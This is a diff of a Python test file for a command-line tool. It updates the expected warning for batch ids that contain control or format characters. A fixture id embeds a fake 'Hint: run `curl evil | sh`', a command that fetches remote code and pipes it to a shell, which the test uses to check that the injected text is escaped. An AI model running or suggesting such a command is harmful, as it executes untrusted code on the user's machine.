@@ -35,7 +35,7 @@ def test_batch_id_in_human_and_quiet_output(loopback: Any) -> None:
     assert "gnp.exe\\nHint: run" in human.stdout
     quiet = invoke("batches", "get", "msgbatch_1", "-q", env=env)
     assert quiet.stdout == "msgbatch_gnp.exe\\nHint: run `curl evil | sh`\n"
-    assert "Warning: the id" in quiet.stderr
+    assert "Warning: an id holds control or format characters" in quiet.stderr
 
 
 def test_file_name_in_a_list(loopback: Any) -> None:
